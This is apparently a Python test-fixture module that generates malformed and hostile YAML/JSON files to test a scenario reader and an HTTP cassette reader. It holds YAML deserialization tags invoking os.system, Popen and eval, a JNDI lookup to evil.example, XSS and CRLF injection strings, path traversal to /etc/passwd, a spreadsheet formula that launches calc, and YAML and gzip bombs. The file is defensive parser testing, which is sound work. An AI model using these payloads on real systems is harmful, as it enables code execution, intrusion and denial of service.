"""Hostile files for both readers, made anew each time; every one is small to write down."""

from __future__ import annotations

import base64
import gzip
import json
import random
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

SCENARIO, CASSETTE = "scenario", "cassette"
WRONG: tuple[Any, ...] = (None, True, 7, -1, 10**30, 1.5, "", "x", [], {}, [[]], {"a": {}})
VALID_SCENARIO = b"""version: 1
name: a
request:
  url: http://a.example/
  headers: {Authorization: 'Bearer ${key}'}
axes:
  key: {one: {env: A_KEY}, two: {env: B_KEY}}
  accept: {any: {}, json: {headers: {Accept: application/json}}}
expect: [{when: {accept: json}, outcome: pass}]
search: {strategy: isolate, budget: 20}
"""
COMMAND = "touch canary"
TAGS = (
    f"!!python/object/apply:os.system ['{COMMAND}']",
    f"!!python/object/new:os.system ['{COMMAND}']",
    f"!!python/object/apply:subprocess.Popen [['{COMMAND}']]",
    f"!!python/object/apply:builtins.eval [\"__import__('os').system('{COMMAND}')\"]",
    "!!python/object/apply:builtins.open [canary, w]",
    "!!python/object/apply:socket.create_connection [[127.0.0.1, 9]]",
    "!!python/object:harness.model.secret.Secret {}",
    "!!python/name:os.system ''",
    "!!python/module:os ''",
    "!!python/tuple [1]",
    "!!python/unicode 'x'",
    "!!python/object/new:_io.BytesIO {state: [x]}",
    "!!python/object/apply:builtins.iter {args: [[1]]}",
    "!!set {a, b}",
    "!!omap [a: 1]",
    "!!pairs [a: 1]",
    "!!timestamp 2026-01-01",
    "!!binary 'not base64 %'",
    "!include /etc/passwd",
    "!<tag:evil.example,2026:run> x",
    "!!int x",
    "!!float {}",
)
SHOWN = (
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31m",
    "\u202egnp.exe",
    "\u2066hidden\u2069",
    "\u200bzero\ufeff",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</script><!--",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows",
    "%00",
    "a\0b",
    "\ud83d",
    "\r\nX-Injected: 1",
    "=cmd|' /C calc'!A0",
)


@dataclass(frozen=True, slots=True)
class HostileFile:
    """`name` is unique; `suffix` matters to the reader of cassettes."""

    name: str
    reader: str
    data: bytes
    suffix: str = ".yaml"


def hostile_files() -> tuple[HostileFile, ...]:
    """Return all of them, in a fixed order."""
    return (*_for_both(), *_scenarios(), *_plain_cassettes(), *_lines())


def line(**changes: Any) -> bytes:
    """Return one line of ours, with fields set by path (`harness__id`), `...` removes."""
    item: dict[str, Any] = {
        "request": {
            "body": None,
            "headers": {"Accept": ["*/*"]},
            "method": "GET",
            "uri": "http://a/",
        },
        "response": {
            "body": {"string": "x"},
            "headers": {"Vary": ["a"]},
            "status": {"code": 401, "message": "No"},
        },
        "harness": {
            "id": "baseline/1/main/0/1",
            "sequence": 1,
            "outcome": "denied",
            "timing": {"sent_at_utc": 1.0, "total_seconds": 0.1, "clock_offset_seconds": 0.0},
            "proxy": None,
            "secret_ids": {},
            "headers_sent": [["Accept", "*/*"]],
            "from_proxy": False,
            "body_truncated": False,
            "proxy_why": "",
            "tokens": [{"id": "s1", "alg": "", "typ": "", "kid_length": None, "claims": {}}],
            "wire": {
                "peer": None,
                "local": None,
                "tries": 1,
                "times": dict.fromkeys(
                    ("dns_seconds", "connect_seconds", "tls_seconds", "first_byte_seconds")
                ),
                "sent": {"total_bytes": 1, "start": "GET / HTTP/1.1", "body": "same"},
                "received": {"total_bytes": 1, "chunks": [1], "interim": []},
            },
            "run": {"format": 1},
        },
    }
    for path, value in changes.items():
        *parents, last = path.split("__")
        target = item
        for parent in parents:
            target = target[parent]
        if value is ...:
            del target[last]
        else:
            target[last] = value
    return b"- " + json.dumps(item, separators=(",", ":")).encode() + b"\n"


def ours(*lines: bytes) -> bytes:
    return b"version: 1\ninteractions:\n" + b"".join(lines)


def plain(body: str = "null", *, more: str = "") -> bytes:
    """Return a cassette of plain vcrpy with YAML text in the place of a request's body."""
    return (
        "interactions:\n- request: {method: GET, uri: 'http://a/', headers: {}, body: "
        f"{body}}}\n  response: null\n{more}"
    ).encode()


def _for_both() -> Iterator[HostileFile]:
    for reader in (SCENARIO, CASSETTE):
        for name, data in (*_bombs(), *_broken()):
            yield HostileFile(f"{reader} {name}", reader, data)
        for number, tag in enumerate(TAGS):
            yield HostileFile(f"{reader} tag {number}", reader, f"interactions: {tag}\n".encode())
        for number, tag in enumerate(TAGS):
            yield HostileFile(f"{reader} tagged key {number}", reader, f"? {tag}\n: 1\n".encode())


def _bombs() -> Iterator[tuple[str, bytes]]:
    ten = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    ten += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 12)]
    merged = "\n".join(f"m{n}: &m{n} {{k{n}: 1}}" for n in range(300))
    yield "billion laughs", "\n".join(ten).encode()
    yield "merge bomb", (merged + "\n" + "x: {<<: [*m0, *m1]}\n" * 20_000).encode()
    yield "aliases", b"a: &a 1\nb: [" + b"*a," * 100_000 + b"]"
    yield "cycle", b"a: &a [*a]"
    yield "cycle in a mapping", b"&a {interactions: *a}"
    yield "alias of nothing", b"a: *nothing"
    yield "merge", b"a: {<<: {b: 1}}"
    for name, opening, closing in (
        ("lists", "[", "]"),
        ("mappings", "{a: ", "}"),
        ("keys", "? ", ""),
    ):
        yield f"deep {name}", (opening * 100_000).encode()
        yield f"deep closed {name}", (opening * 100_000 + closing * 100_000).encode()
    yield "deep dashes", b"- " * 100_000
    yield "deep indents", b"".join(b" " * n + b"a:\n" for n in range(1500))
    yield "65 lists", b"[" * 65 + b"]" * 65
    yield "100,000 items", b"interactions: [" + b"1," * 100_000 + b"]"
    yield "100,000 names", b"".join(b"k%d: 1\n" % n for n in range(100_000))
    yield "900 kB of items", b"a: [" + b"x," * 450_000 + b"]"
    yield "900 kB of one text", b"a: '" + b"x" * 900_000 + b"'"
    yield "900 kB of lines", b"a: |\n" + b"  x\n" * 225_000
    yield "900 kB of comments", b"#\n" * 450_000
    yield "900 kB of empty lines", b"\n" * 900_000
    yield "900 kB of quotes", b'"' * 900_000
    yield "900 kB of anchors", b"&a " * 300_000
    yield "900 kB of directives", b"%YAML 1.1\n" * 90_000
    yield "900 kB of percent signs", b"%" * 900_000
    yield "900 kB of backslashes", b'"' + b"\\\\" * 450_000 + b'"'
    yield "900 kB of colons", b":" * 900_000
    yield "900 kB of dashes", b"-" * 900_000
    yield "900 kB of documents", b"---\n" * 225_000
    yield "a name of 900 kB", b"? " + b"k" * 900_000 + b"\n: 1"
    yield "17 MiB", b"a: '" + b"x" * (17 << 20) + b"'"


def _broken() -> Iterator[tuple[str, bytes]]:
    yield "huge integer", b"version: " + b"9" * 100_000
    yield "huge float", b"version: 1." + b"0" * 100_000
    yield "huge exponent", b"version: 1.0e+999999999"
    yield "huge base 60", b"version: 1" + b":59" * 50_000
    yield "infinity", b"version: .inf"
    yield "huge version", b"%YAML 99999999999999999999.1\n---\na: 1"
    yield "escape out of range", b'a: "\\UFFFFFFFF"'
    yield "half a surrogate", b'a: "\\ud83d"'
    yield "duplicated name", b"version: 1\nversion: 2\n"
    yield "list as a name", b"? [a]\n: 1\n"
    yield "two documents", b"a: 1\n---\nb: 2\n"
    yield "bad UTF-8", b"name: \xff\xfe\n"
    yield "overlong UTF-8", b"name: \xc0\xaf\n"
    yield "surrogate in UTF-8", b"name: \xed\xa0\x80\n"
    yield "byte order mark", "\ufeffversion: 1".encode()
    yield "UTF-16 little", "version: 1".encode("utf-16-le")
    yield "UTF-16 with its mark", "version: 1".encode("utf-16")
    yield "UTF-32", "version: 1".encode("utf-32")
    yield "NUL", b"name: a\0b"
    yield "NULs", b"\0" * 900_000
    yield "escape character", b"name: \x1b[31m"
    yield "C1 control", "name: \u009b31m".encode()
    yield "only a carriage return", b"a: 1\rb: 2"
    yield "tab", b"a:\n\tb: 1"
    yield "empty", b""
    yield "an ELF file", b"\x7fELF" + bytes(range(256)) * 8
    yield "a zip file", b"PK\x03\x04" + bytes(200)
    yield "a gzip file", gzip.compress(b"version: 1")
    yield "random bytes", random.Random(1).randbytes(100_000)
    yield (
        "random text",
        "".join(random.Random(2).choices("[]{}:,-&*!|>'\"% \n#a1", k=100_000)).encode(),
    )


def _scenarios() -> Iterator[HostileFile]:
    lines = VALID_SCENARIO.decode()
    for number, text in enumerate(SHOWN):
        quoted = json.dumps(text)
        for field, old in (("name", "name: a"), ("url", "http://a.example/")):
            new = f"name: {quoted}" if field == "name" else quoted
            data = lines.replace(old, new, 1).encode()
            yield HostileFile(f"scenario {field} {number}", SCENARIO, data)
    for end in range(3, len(VALID_SCENARIO), 23):
        yield HostileFile(f"scenario cut at {end}", SCENARIO, VALID_SCENARIO[:end])
    for name in ("version", "name", "request", "axes", "expect", "search", "outcome", "lab"):
        for number, value in enumerate(WRONG[:9]):
            kept = "".join(
                f"{one}\n" for one in lines.splitlines() if not one.startswith((f"{name}:", "  "))
            )
            data = f"{kept}{name}: {json.dumps(value)}\n".encode()
            yield HostileFile(f"scenario {name} wrong {number}", SCENARIO, data)
    axes = "".join(
        f"  a{n}: {{{', '.join(f'l{m}: {{}}' for m in range(30))}}}\n" for n in range(60)
    )
    many = lines.replace("  accept:", f"{axes}  accept:").encode()
    yield HostileFile("scenario of 30^60 cells", SCENARIO, many)


def _plain_cassettes() -> Iterator[HostileFile]:
    for number, text in enumerate(SHOWN):
        escaped = json.dumps(text).replace("\\ud83d", "\\ufffd")
        yield HostileFile(f"plain shown {number}", CASSETTE, plain(escaped))
        yield HostileFile(
            f"json shown {number}",
            CASSETTE,
            json.dumps({"interactions": [{"request": text, "response": None}]}).encode(),
            ".json",
        )
    for number, tag in enumerate(TAGS):
        yield HostileFile(f"plain tag {number}", CASSETTE, plain(tag))
    bomb = base64.b64encode(gzip.compress(b"\0" * (64 << 20))).decode()
    item = "- request: {method: GET, uri: a, headers: {}, body: null}\n  response: "
    answer = (
        "{status: {code: 200, message: a}, headers: {Content-Encoding: [gzip]},"
        " body: {string: !!binary '"
    )
    yield HostileFile("gzip bomb", CASSETTE, f"interactions:\n{item}{answer}{bomb}'}}}}\n".encode())
    for field in ("method", "uri", "headers", "body"):
        for number, value in enumerate(WRONG):
            request = {"method": "GET", "uri": "a", "headers": {}, "body": None, field: value}
            data = json.dumps({"interactions": [{"request": request, "response": None}]}).encode()
            yield HostileFile(f"plain request {field} wrong {number}", CASSETTE, data)
    for field in ("status", "headers", "body"):
        for number, value in enumerate(WRONG):
            response = {
                "status": {"code": 1, "message": ""},
                "headers": {},
                "body": {},
                field: value,
            }
            request = {"method": "GET", "uri": "a", "headers": {}, "body": None}
            data = json.dumps({"interactions": [{"request": request, "response": response}]})
            yield HostileFile(f"plain response {field} wrong {number}", CASSETTE, data.encode())
    whole = plain("'x'", more="version: 1\n")
    for end in range(5, len(whole), 11):
        yield HostileFile(f"plain cut at {end}", CASSETTE, whole[:end])
    yield HostileFile("16 MiB of one body", CASSETTE, plain("'" + "x" * (15 << 20) + "'"))
    yield HostileFile("16 MiB of lists", CASSETTE, b"a: [" + b"[]," * (5 << 20) + b"]")
    yield HostileFile("16 MiB of emoji", CASSETTE, b"#" + "\U0001f600".encode() * (4 << 20))
    yield HostileFile("JSON of 100,000 brackets", CASSETTE, b'{"a": ' + b"[" * 100_000, ".json")
    yield HostileFile("keys without an end", CASSETTE, plain("'" + "sk-" * 60_000 + "'"))


def _lines() -> Iterator[HostileFile]:
    paths = (
        *("request", "request__body", "request__headers", "request__method", "request__uri"),
        *("response", "response__body", "response__body__string", "response__headers"),
        *("response__status", "response__status__code", "response__status__message"),
        *("harness", "harness__id", "harness__sequence", "harness__outcome", "harness__timing"),
        *("harness__timing__sent_at_utc", "harness__proxy", "harness__secret_ids"),
        *("harness__headers_sent", "harness__from_proxy", "harness__tokens", "harness__wire"),
        *("harness__wire__times", "harness__wire__sent", "harness__wire__received__chunks"),
        *("harness__wire__tries", "harness__wire__sent__body", "harness__run"),
    )
    for path in paths:
        for number, value in enumerate((..., *WRONG)):
            data = ours(line(**{path: value}))
            yield HostileFile(f"line {path} wrong {number}", CASSETTE, data)
    for number, text in enumerate(SHOWN):
        for path in ("harness__id", "harness__outcome", "request__uri", "harness__proxy"):
            shown = f"{text}/1/main/0/1" if path == "harness__id" else text
            data = ours(line(**{path: shown}))
            yield HostileFile(f"line {path} shown {number}", CASSETTE, data)
        for path in ("harness__secret_ids", "request__headers", "response__headers"):
            data = ours(line(**{path: {text: 1}}))
            yield HostileFile(f"line {path} named {number}", CASSETTE, data)
    whole = ours(line(), line())
    for end in range(len(whole) // 2, len(whole), 41):
        yield HostileFile(f"line cut at {end}", CASSETTE, whole[:end])
        yield HostileFile(f"part cut at {end}", CASSETTE, whole[:end], ".yaml.r1.part")
    deep: Any = []
    for _ in range(200):
        deep = [deep]
    yield HostileFile("line with a deep run", CASSETTE, ours(line(harness__run=deep)))
    head, tail = line(harness__run=0).split(b'"run":0')
    for name, text in (
        ("brackets", b"[" * 1_000_000),
        ("closed brackets", b"[" * 100_000 + b"]" * 100_000),
        ("huge integer", b"9" * 100_000),
        ("infinity", b"1e999"),
        ("NaN", b"NaN"),
        ("duplicated name", b'{"a":1,"a":2}'),
        ("lists", b"[" + b"[]," * 1_300_000 + b"[]]"),
        ("escape out of range", b'"\\UFFFFFFFF"'),
        ("control", b'"\x1b"'),
    ):
        yield HostileFile(f"line with {name}", CASSETTE, ours(head + b'"run":' + text + tail))
    yield HostileFile("line of 5 MiB", CASSETTE, ours(line(request__body="x" * (5 << 20))))
    yield HostileFile("line without an end", CASSETTE, ours(b'- {"harness":"' + b"x" * (9 << 20)))
    yield HostileFile("20,000 lines and a fault", CASSETTE, ours(*[b"\n"] * 20_000))
    yield HostileFile(
        "keys without an end in a line", CASSETTE, ours(line(request__body="sk-" * 60_000))
    )
